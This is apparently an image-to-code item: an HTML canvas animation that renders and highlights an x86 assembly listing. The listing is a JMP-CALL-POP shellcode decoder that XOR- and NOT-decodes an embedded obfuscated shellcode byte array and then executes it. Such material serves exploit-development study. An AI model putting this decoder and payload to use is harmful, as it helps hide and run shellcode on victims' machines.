
An HTML page with a canvas that plays this animation: 791x708 px, repeating every 8000 ms.

```html
<!DOCTYPE html>
<html lang="en">
<meta charset="utf-8">
<title>Decoder listing</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #000; }
canvas { display: block; width: 791px; height: 708px; }
</style>
<canvas id="screen" width="956" height="856"></canvas>
<script id="code" type="text/plain">global _start

section .text
_start:


        jmp short call_decoder


decoder:
        ; the sequence of the chars in shellcode is: placehlder,obfuscated shellcode char,random char
        pop esi
        lea edi, [esi]                  ; load the first placeholder char in edi
        xor eax, eax
        xor ebx, ebx

switch:

        mov bl, byte [esi + eax]        ; load the placeholder in EBX
        cmp bl, 0xaa                    ; compare it with the shellcode end character
        jz shellcode                    ; if whe reached the end jump to the shellcode
        cmp bl, 0xbb                    ; if the placeholder is 0xbb Zero Flag is set
        jz xordecode                    ; if ZF is set jump to XOR decoder
        jmp notdecode                   ; otherwise jump to NOT decoder

xordecode:

        mov bl, byte [esi + eax + 1]    ; load the second char (the good one) from where we are
        mov byte [edi], bl              ; load it in edi
        xor byte [edi], 0xDD            ; xoring char with 0xdd to obtain the original one
        inc edi                         ; increment edi
        add al, 3                       ; move to the next placeholder char
        jmp short switch                ; loop to decode

notdecode:

        mov bl, byte [esi + eax + 1]    ; load the second char (the good one) from we are
        mov byte [edi], bl              ; load it in edi
        not byte [edi]                  ; denot char
        inc edi                         ; increment edi
        add al, 3                       ; move to the next placeholder char
        jmp short switch                ; loop to decode

call_decoder:

        call decoder
        shellcode: db 0xbb,0xec,0x73,0xcc,0x3f,0x9d,0xbb,0x8d,0x51,0xbb,0xb5,0x1b,0xbb,0xb3,0x22,0xbb,0xf2,0x79,0xbb,0x
ae,0x8e,0xbb,0xb5,0x61,0xbb,0xb5,0x3d,0xbb,0xf2,0x6e,0xbb,0xf2,0x9f,0xbb,0xbf,0x10,0xbb,0xb4,0x89,0xcc,0x76,0x2d,0xcc,0
x1c,0x2f,0xbb,0x8d,0x91,0xcc,0x76,0x7e,0xcc,0x1d,0x92,0xbb,0x8e,0x80,0xcc,0x76,0x7b,0xcc,0x1e,0xa7,0xcc,0x4f,0x7f,0xbb,
0xd6,0x2b,0xcc,0x32,0x24,0xcc,0x7f,0x37,0xaa</script>
<script>
// The terminal is drawn on a whole-pixel 8x17 cell grid and scaled down by CSS.
const LOOP = 8000, CELL = 8, LINE = 17, PAD = 1, BASE = 13, COLS = 119;
const DRAG = 3750, HOLD = 4270, FULL = 4450, CLEAR = 6600;
const lines = document.getElementById('code').textContent.split('\n');
const ctx = document.getElementById('screen').getContext('2d');
const cell = (row, col) => row * COLS + col;
const selStart = cell(46, 8);

const ramp = (t, a, b) => Math.min(1, Math.max(0, (t - a) / (b - a)));

// Cell index where the selection ends
function selectionEnd(t) {
  if (t < DRAG || t >= CLEAR) return selStart;
  if (t >= FULL) return cell(50, 0);
  const p = ramp(t, DRAG, HOLD);
  return cell(46 + Math.min(3, Math.floor(p * 3.5)), Math.round(8 + p * 33));
}

function draw(t) {
  const glow = ramp(t, 1100, 1900), end = selectionEnd(t);
  const ink = `rgb(${215 + 40 * glow}, ${215 + 40 * glow}, ${208 + 47 * glow})`;
  ctx.fillStyle = '#000';
  ctx.fillRect(0, 0, 956, 856);
  ctx.font = '13.333px "DejaVu Sans Mono", monospace';

  lines.forEach((line, row) => {
    const y = PAD + row * LINE;
    const from = Math.max(0, selStart - cell(row, 0));
    const to = Math.min(COLS, end - cell(row, 0));
    if (to > from) {
      ctx.fillStyle = '#fffcff';
      ctx.fillRect(PAD + from * CELL, y, (to - from) * CELL, LINE);
    }
    [...line].forEach((char, col) => {
      if (char === ' ') return;
      ctx.fillStyle = col >= from && col < to ? '#000' : ink;
      ctx.fillText(char, PAD + col * CELL, y + BASE);
    });
  });

  if (t < FULL || t >= CLEAR) {
    ctx.fillStyle = ink;
    ctx.fillRect(PAD, PAD, 1, LINE);
  }
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</html>
```
